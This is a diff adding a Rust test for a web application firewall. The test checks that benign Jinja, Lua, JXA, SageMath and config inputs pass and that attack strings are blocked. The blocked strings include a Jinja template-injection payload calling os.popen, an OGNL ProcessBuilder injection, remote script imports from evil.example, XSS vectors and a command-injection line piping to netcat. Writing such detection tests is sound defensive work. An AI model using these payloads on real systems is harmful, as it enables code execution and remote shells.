@@ -5701,3 +5701,56 @@ fn a_semicolon_quoted_alone_is_a_delimiter_not_a_statements_end() {
         }
     }
 }
+
+#[test]
+fn holdout68_to_70_shapes_pass_and_their_attacks_still_score() {
+    let waf = waf_with("{}");
+    // Jinja's `namespace(…)` called in a statement (a Home Assistant blueprint), Lua's length
+    // compared (`(#coins==0)`, PICO-8), a method named `import` (JXA's `ObjC.import`), SageMath's
+    // generators `R.<x,y,z>`, a metric named `system.load.1` (Datadog).
+    for v in [
+        "{% set ns = namespace(low=[]) %}\n{% for s in states.sensor %}{% set ns.low = ns.low + [s.name] %}{% endfor %}\n{{ ns.low | join(', ') }}",
+        "function _update()\n  if (#coins==0) then sfx(3) end\n  if btnp(4) and p.on then p.dy=-3 end\nend",
+        "ObjC.import(\"Foundation\");\nconst app = Application.currentApplication();",
+        "R.<x,y,z> = PolynomialRing(QQ, order='lex')\nI = R.ideal([x^2 + y^2 - 1])",
+        "avg:system.load.1{env:staging,role:worker} by {host}",
+    ] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(!o.blocked, "{v}: {o:?}");
+        }
+    }
+    // A program's path alone in a document's field: a pod's command, a launchd job's program.
+    let pod =
+        r#"{"spec": {"containers": [{"command": ["/bin/sh", "-c", "echo ready"], "shell": "/usr/local/bin/bash"}]}}"#;
+    assert!(!json_post(&waf, pod).blocked);
+    let plist = "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>ProgramArguments</key><array><string>/usr/bin/rsync</string><string>-a</string></array></dict></plist>";
+    assert!(!post("/api/jobs", "application/xml", plist, &waf).blocked);
+    // Sentry's envelope is a known media type.
+    let envelope = "{\"event_id\":\"9ec79c33ec9942ab8353589fcb2e04dc\"}\n{\"type\":\"session\"}\n{\"sid\":\"a\",\"status\":\"ok\"}\n";
+    assert!(!post("/api/42/envelope/", "application/x-sentry-envelope", envelope, &waf).blocked);
+    // What the same rules are for still counts.
+    for v in [
+        "{% set x = namespace.__init__.__globals__.os.popen('id').read() %}",
+        "{% set x = namespace %}{{ x }}",
+        "(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())",
+        "(#a='x')",
+        "import('//evil.example/x.js')",
+        "x;import(\"//evil.example/x.js\")",
+        "<x,y onmouseover=alert(1)>hover</x,y>",
+        "<svg/onload=alert(1)>",
+        "<iframe src=//evil.example>",
+        "System.exit(0)",
+        "System.load(\"/tmp/x.so\")",
+    ] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(o.blocked, "{v}: {o:?}");
+        }
+    }
+    // A program's path in an argument is the probe it looks like; with a separator or arguments
+    // in a document it counts too.
+    assert!(form_post(&waf, "cmd=%2Fbin%2Fab").blocked);
+    assert!(outcome(&waf, "/run?cmd=%2Fbin%2Fsh").blocked);
+    for v in [";/bin/sh", "x | /usr/bin/nc 10.0.0.1 4444", "/bin/sh -i"] {
+        assert!(json_post(&waf, &serde_json::json!({ "shell": v }).to_string()).blocked, "{v}");
+    }
+}
